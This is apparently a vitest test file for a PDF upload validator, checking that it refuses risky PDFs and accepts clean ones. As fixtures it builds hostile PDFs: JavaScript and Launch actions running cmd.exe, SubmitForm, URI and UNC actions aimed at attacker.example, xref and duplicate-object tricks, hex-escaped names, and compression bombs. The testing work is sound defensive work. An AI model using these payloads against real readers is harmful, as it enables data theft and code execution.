import { PDFDocument, PDFName, PDFRef, PDFString } from 'pdf-lib'
import { describe, expect, it } from 'vitest'
import { DEFAULT_PDF_LIMITS, scanPdf, validatePdf } from '../../src/images/index.js'
import {
  BASE_OBJECTS,
  GOTO_ACTION,
  JS_ACTION,
  deflatedZeros,
  rawPdf,
  withContentStream,
  withLink,
  withOpenAction,
} from '../support/pdfs.js'
import { expectCode, fixture } from './helpers.js'

async function onePage(): Promise<PDFDocument> {
  const doc = await PDFDocument.create()
  doc.addPage([200, 200]).drawText('ID card', { x: 20, y: 100 })
  return doc
}

async function bytes(doc: PDFDocument): Promise<Buffer> {
  // No object streams, so that the hex-escape test below can edit the file text.
  return Buffer.from(await doc.save({ useObjectStreams: false }))
}

describe('validatePdf', () => {
  it('accepts the real 1-page and 4-page fixtures with page count, bytes and sha256', async () => {
    const one = fixture('docs/pdf-1-page-libreoffice.pdf')
    expect(await validatePdf(one)).toMatchObject({
      format: 'pdf',
      contentType: 'application/pdf',
      pages: 1,
      bytes: one.length,
    })
    const four = await validatePdf(fixture('docs/pdf-4-pages-pdflatex.pdf'))
    expect(four.pages).toBe(4)
    expect(four.sha256).toMatch(/^[0-9a-f]{64}$/)
  })

  it('accepts a plain generated PDF (with object streams)', async () => {
    expect(await validatePdf(await bytes(await onePage()))).toMatchObject({ pages: 1 })
    expect(await validatePdf(Buffer.from(await (await onePage()).save({ useObjectStreams: true })))).toMatchObject({
      pages: 1,
    })
  })

  it('refuses the password-protected fixture as INVALID_PDF (reason: encrypted)', async () => {
    const error = await expectCode(validatePdf(fixture('docs/pdf-encrypted-password.pdf')), 'INVALID_PDF')
    expect(error).toMatchObject({ status: 422, details: { reason: 'encrypted' } })
  })

  it('refuses wrong magic, garbage after the header, and a PDF with no pages as INVALID_PDF', async () => {
    await expectCode(validatePdf(fixture('jpeg-grayscale.jpg')), 'INVALID_PDF')
    await expectCode(validatePdf(Buffer.from('%PDF-1.7\nthis is not a pdf at all\n%%EOF')), 'INVALID_PDF')
    await expectCode(
      validatePdf(Buffer.from(await (await PDFDocument.create()).save({ addDefaultPage: false }))),
      'INVALID_PDF',
    )
    await expectCode(validatePdf(Buffer.alloc(0)), 'EMPTY_FILE')
  })

  it('refuses an /OpenAction that runs JavaScript as UNSAFE_PDF', async () => {
    const doc = await onePage()
    const action = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') })
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action))
    const error = await expectCode(validatePdf(await bytes(doc)), 'UNSAFE_PDF')
    expect(error).toMatchObject({ status: 422 })
    // The same action hidden inside a compressed object stream.
    await expectCode(validatePdf(Buffer.from(await doc.save({ useObjectStreams: true }))), 'UNSAFE_PDF')
  })

  it('refuses a document-level /JavaScript name tree', async () => {
    const doc = await onePage()
    const script = doc.context.register(
      doc.context.obj({ S: 'JavaScript', JS: PDFString.of('this.submitForm("https://evil.example")') }),
    )
    const tree = doc.context.obj({ Names: [PDFString.of('init'), script] })
    doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: doc.context.register(tree) }))
    await expectCode(validatePdf(await bytes(doc)), 'UNSAFE_PDF')
  })

  it('refuses a Launch action, a page /AA trigger and an embedded file', async () => {
    const launch = await onePage()
    launch.catalog.set(PDFName.of('OpenAction'), launch.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') }))
    await expectCode(validatePdf(await bytes(launch)), 'UNSAFE_PDF')

    const aa = await onePage()
    aa.getPage(0).node.set(PDFName.of('AA'), aa.context.obj({ O: aa.context.obj({ S: 'GoTo', D: [0, 'Fit'] }) }))
    await expectCode(validatePdf(await bytes(aa)), 'UNSAFE_PDF')

    const attached = await onePage()
    await attached.attach(Buffer.from('MZ not really an exe'), 'invoice.exe', { mimeType: 'application/octet-stream' })
    await expectCode(validatePdf(await bytes(attached)), 'UNSAFE_PDF')
  })

  it('finds a hex-escaped name (/J#61vaScript) too', async () => {
    const doc = await onePage()
    // Escape the name in the file text; the parser decodes #61 to "a", and so must the check.
    const action = doc.context.obj({ S: 'JavaScript', JS: PDFString.of('1') })
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action))
    const escaped = Buffer.from((await bytes(doc)).toString('latin1').replace('/JavaScript', '/J#61vaScript'), 'latin1')
    await expectCode(validatePdf(escaped), 'UNSAFE_PDF')
  })
})

describe('validatePdf: documents that read two ways', () => {
  it(
    'refuses an object defined twice in one revision, the xref naming the scripted one (UNSAFE_PDF ' +
      'duplicate-object)',
    async () => {
      const pdf = rawPdf([
        { objects: [...BASE_OBJECTS, { num: 4, body: JS_ACTION }, { num: 4, body: GOTO_ACTION }], xref: { 4: 0 } },
      ])
      // pdf-lib alone keeps the last (harmless) definition: the check must not rely on it.
      expect((await PDFDocument.load(pdf)).context.lookup(PDFRef.of(4))?.toString()).toContain('/GoTo')
      const error = await expectCode(validatePdf(pdf), 'UNSAFE_PDF')
      expect(error).toMatchObject({ status: 422, details: { reason: 'duplicate-object' } })
    },
  )

  it(
    'refuses an update whose xref points back at the older, scripted definition (UNSAFE_PDF ' + 'xref-mismatch)',
    async () => {
      const pdf = rawPdf([
        { objects: [...BASE_OBJECTS, { num: 4, body: JS_ACTION }] },
        { objects: [{ num: 4, body: GOTO_ACTION }] },
      ])
      // Point the second xref's entry for object 4 at the first definition.
      const text = pdf.toString('latin1')
      const first = text.indexOf('4 0 obj')
      const tampered = Buffer.from(
        text.replace(/(xref\n4 1\n)\d{10}/, `$1${String(first).padStart(10, '0')}`),
        'latin1',
      )
      expect(tampered.equals(pdf)).toBe(false)
      const error = await expectCode(validatePdf(tampered), 'UNSAFE_PDF')
      expect(error).toMatchObject({ details: { reason: 'xref-mismatch' } })
    },
  )

  it('refuses an xref entry that points at another object', async () => {
    const pdf = withOpenAction(GOTO_ACTION)
    const text = pdf.toString('latin1')
    const third = String(text.indexOf('3 0 obj')).padStart(10, '0')
    const tampered = Buffer.from(
      text.replace(/^(\d{10}) 00000 n \n(?=(?:\d{10} 00000 n \n){0}trailer)/m, `${third} 00000 n \n`),
      'latin1',
    )
    expect(tampered.equals(pdf)).toBe(false)
    await expectCode(validatePdf(tampered), 'UNSAFE_PDF')
  })

  it('accepts a real incremental update, and stores one definition per object with a fresh xref', async () => {
    const pdf = rawPdf([
      { objects: [...BASE_OBJECTS, { num: 4, body: GOTO_ACTION }] },
      { objects: [{ num: 4, body: '<< /Type /Action /S /GoTo /D [3 0 R /FitH 100] >>' }] },
    ])
    const facts = await validatePdf(pdf)
    expect(facts).toMatchObject({ pages: 1, bytes: pdf.length })
    const stored = facts.data.toString('latin1')
    expect(stored.match(/\b4 0 obj/g)).toHaveLength(1)
    expect(stored).toContain('/FitH 100')
    expect(await scanPdf(facts.data)).toMatchObject({ revisions: 1 })
    expect(await validatePdf(facts.data)).toMatchObject({ pages: 1 })
  })
})

describe('validatePdf: actions other than in-document navigation', () => {
  const refused: Record<string, string> = {
    'GoToR to a UNC path': '<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
    URI: '<< /S /URI /URI (https://attacker.example/track) >>',
    SubmitForm: '<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >>',
    Launch: '<< /S /Launch /F (cmd.exe) >>',
    ImportData: '<< /S /ImportData /F (data.fdf) >>',
    'Named action other than page moves': '<< /S /Named /N /Print >>',
  }
  for (const [name, action] of Object.entries(refused)) {
    it(`refuses ${name} as an /OpenAction and behind a link`, async () => {
      await expectCode(validatePdf(withOpenAction(action)), 'UNSAFE_PDF')
      await expectCode(validatePdf(withLink(action)), 'UNSAFE_PDF')
    })
  }

  it('accepts GoTo and page-move Named actions, and an /OpenAction that is a destination', async () => {
    await validatePdf(withOpenAction(GOTO_ACTION))
    await validatePdf(withLink('<< /S /Named /N /NextPage >>'))
    await validatePdf(withOpenAction('[3 0 R /Fit]'))
  })
})

describe('validatePdf: decoding limits (compression bombs)', () => {
  it('refuses a Flate stream that inflates past the total limit, reading it as it decodes', async () => {
    const bomb = withContentStream(await deflatedZeros(300 * 1024 * 1024), '/FlateDecode')
    expect(bomb.length).toBeLessThan(DEFAULT_PDF_LIMITS.maxInflatedBytes / 200)
    const error = await expectCode(validatePdf(bomb), 'PDF_LIMIT_EXCEEDED')
    expect(error).toMatchObject({
      status: 422,
      details: { limit: expect.stringMatching(/^(inflatedBytes|expansion)$/) },
    })
  })

  it('refuses a stream of zeros that inflates 1,000 times its file (expansion)', async () => {
    const bomb = withContentStream(await deflatedZeros(24 * 1024 * 1024), '/FlateDecode')
    const error = await expectCode(validatePdf(bomb), 'PDF_LIMIT_EXCEEDED')
    expect(error).toMatchObject({ details: { limit: 'expansion', max: DEFAULT_PDF_LIMITS.maxExpansion } })
  })

  it('refuses a doubly deflated bomb ([/FlateDecode /FlateDecode]) and one in an object stream', async () => {
    const nested = withContentStream(await deflatedZeros(400 * 1024 * 1024, 2), '[/FlateDecode /FlateDecode]')
    expect(nested.length).toBeLessThan(64 * 1024)
    await expectCode(validatePdf(nested), 'PDF_LIMIT_EXCEEDED')
    const objStm = rawPdf([
      {
        objects: [
          ...BASE_OBJECTS.slice(0, 3).map((o) =>
            o.num === 1 ? { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' } : o,
          ),
          {
            num: 5,
            body: '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>',
            stream: await deflatedZeros(300 * 1024 * 1024),
          },
        ],
      },
    ])
    await expectCode(validatePdf(objStm), 'PDF_LIMIT_EXCEEDED')
  })

  it('counts RunLength and LZW output too, with the same limits', async () => {
    // 2 bytes of RunLength make 128: 1 MiB of runs decodes to 64 MiB, 64 times the file.
    const runs = Buffer.alloc(1024 * 1024)
    for (let i = 0; i < runs.length; i += 2) runs[i] = 129
    const rl = withContentStream(runs, '/RunLengthDecode')
    const small = { ...DEFAULT_PDF_LIMITS, maxInflatedBytes: 32 * 1024 * 1024 }
    await expectCode(validatePdf(rl, small), 'PDF_LIMIT_EXCEEDED')
    expect((await scanPdf(withContentStream(Buffer.from([129, 7, 2, 1, 2, 3, 128]), '/RL'))).inflatedBytes).toBe(
      128 + 3,
    )
    // The LZW example of ISO 32000-1 (7.4.4.2): 9 bytes that decode to 10.
    const lzw = Buffer.from([0x80, 0x0b, 0x60, 0x50, 0x22, 0x0c, 0x0c, 0x85, 0x01])
    expect((await scanPdf(withContentStream(lzw, '/LZWDecode'))).inflatedBytes).toBe(10)
  })

  it('refuses more pages than the limit, and an unknown filter', async () => {
    const doc = await PDFDocument.create()
    for (let i = 0; i <= DEFAULT_PDF_LIMITS.maxPages; i++) doc.addPage([100, 100])
    const error = await expectCode(validatePdf(Buffer.from(await doc.save())), 'PDF_LIMIT_EXCEEDED')
    expect(error).toMatchObject({ details: { limit: 'pages', max: DEFAULT_PDF_LIMITS.maxPages } })
    await expectCode(validatePdf(withContentStream(Buffer.from('x'), '/MadeUpDecode')), 'INVALID_PDF')
  })

  it('refuses more objects than the limit', async () => {
    const objects = [...BASE_OBJECTS.slice(1), { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' }]
    for (let n = 4; n <= DEFAULT_PDF_LIMITS.maxObjects + 4; n++) objects.push({ num: n, body: 'null' })
    const error = await expectCode(validatePdf(rawPdf([{ objects }])), 'PDF_LIMIT_EXCEEDED')
    expect(error).toMatchObject({ details: { limit: 'objects' } })
  })

  it('keeps the real fixtures well within every limit', async () => {
    for (const name of ['docs/pdf-1-page-libreoffice.pdf', 'docs/pdf-4-pages-pdflatex.pdf']) {
      const scan = await scanPdf(fixture(name))
      expect(scan.inflatedBytes, name).toBeGreaterThan(0)
      expect(scan.revisions).toBe(1)
    }
  })
})
